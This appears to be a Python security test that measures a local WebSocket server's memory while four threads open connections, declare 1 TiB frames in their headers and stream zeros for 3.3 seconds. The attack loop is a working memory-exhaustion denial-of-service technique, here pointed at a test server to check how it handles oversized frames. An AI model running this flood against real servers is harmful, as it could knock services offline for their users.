import os
# Server RSS while 4 anonymous sockets declare 1 TiB frames and stream zeros for 3.3 s.
import sys, threading, time, struct
sys.path.insert(0,os.path.dirname(os.path.abspath(__file__))); from common import *
srv=Server(name="ws")
srv.admin("create-user","victim","--password","victim password")
srv.admin("grant-credits","victim","10")
c=Client(srv.port); st,_=c.req("POST","/api/auth/login",{"username":"victim","password":"victim password"}); assert st==200,st
st,b=c.req("POST","/api/me/stream-key",{}); key=b["key"]
bc=ws_upgrade(srv.port,f"/ws/broadcast/victim?key={key}")
time.sleep(0.5)
base=srv.rss_mb(); peak=base; stop=time.time()+3.3; sent=[0]; closes=[0]
def attack():
    zeros=b"\0"*65536
    while time.time()<stop:
        try:
            s=ws_upgrade(srv.port,"/ws/watch/victim")
            s.sendall(bytes([0x82,0x80|127])+struct.pack(">Q",1<<40)+b"\x37\xfa\x21\x3d")
            while time.time()<stop:
                s.sendall(zeros); sent[0]+=len(zeros)
        except Exception:
            closes[0]+=1
ts=[threading.Thread(target=attack) for _ in range(4)]
[t.start() for t in ts]
while any(t.is_alive() for t in ts):
    peak=max(peak,srv.rss_mb()); time.sleep(0.1)
after=srv.rss_mb()
print(f"RSS before {base:.0f} MB, peak during 3.3 s of 4 attackers {peak:.0f} MB, after {after:.0f} MB; "
      f"{sent[0]/2**20:.0f} MiB written by attackers before their sockets were closed, {closes[0]} closes (reconnected each time)")
srv.stop()
